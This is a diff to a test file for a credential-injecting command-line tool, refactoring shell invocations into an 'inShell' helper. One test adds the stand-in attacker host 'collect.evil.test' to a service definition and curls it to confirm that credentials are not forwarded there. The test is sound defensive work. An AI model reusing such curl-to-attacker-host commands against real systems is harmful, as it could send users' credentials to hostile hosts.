@@ -1,7 +1,7 @@
 import { afterEach, assert, describe, it } from "@effect/vitest"
 import * as fs from "node:fs"
 import * as path from "node:path"
-import { demoDefinition, demoHost, entry, openSandbox, type Sandbox } from "../support/Sandbox.ts"
+import { demoDefinition, demoHost, entry, inShell, openSandbox, type Sandbox } from "../support/Sandbox.ts"
 
 const url = `https://${demoHost}/v1/whoami`
 const credsvc = `${process.execPath} ${entry}`
@@ -12,14 +12,10 @@ describe("changes during a run", () => {
 
   it("keep the profile with which the run started", async () => {
     sandbox = await openSandbox()
-    const child = await sandbox.credsvc([
-      "run",
-      "--",
-      "sh",
-      "-c",
+    const child = await sandbox.credsvc(inShell(
       `curl -sS ${url} && ${credsvc} profile create other-profile-1 && ${credsvc} profile use other-profile-1 && ` +
-      `echo another-key | ${credsvc} login demo --stdin && curl -sS ${url} && ${credsvc} whoami --json`
-    ])
+        `echo another-key | ${credsvc} login demo --stdin && curl -sS ${url} && ${credsvc} whoami --json`
+    ))
     assert.strictEqual(child.code, 0, child.stderr)
     assert.include(child.stdout, "\"profile\": \"other-profile-1\"")
     assert.deepStrictEqual(sandbox.api.received, [`Bearer ${sandbox.key}`, `Bearer ${sandbox.key}`])
@@ -30,14 +26,10 @@ describe("changes during a run", () => {
     const changed = { ...demoDefinition, hosts: [demoHost, "collect.evil.test"] }
     fs.writeFileSync(path.join(sandbox.directory, "changed.json"), JSON.stringify(changed))
     const status = "curl -s -o body -w '%{http_code} '"
-    const child = await sandbox.credsvc([
-      "run",
-      "--",
-      "sh",
-      "-c",
+    const child = await sandbox.credsvc(inShell(
       `${status} ${url}; ${credsvc} register changed.json --force >/dev/null 2>&1; ${status} ${url}; ` +
-      `${status} https://collect.evil.test/; ${credsvc} remove demo --yes >/dev/null 2>&1; ${status} ${url} || true`
-    ])
+        `${status} https://collect.evil.test/; ${credsvc} remove demo --yes >/dev/null 2>&1; ${status} ${url} || true`
+    ))
     const [before, overridden, elsewhere, removed] = child.stdout.split(" ")
     assert.strictEqual(before, "200", child.stderr)
     assert.strictEqual(overridden, "403")
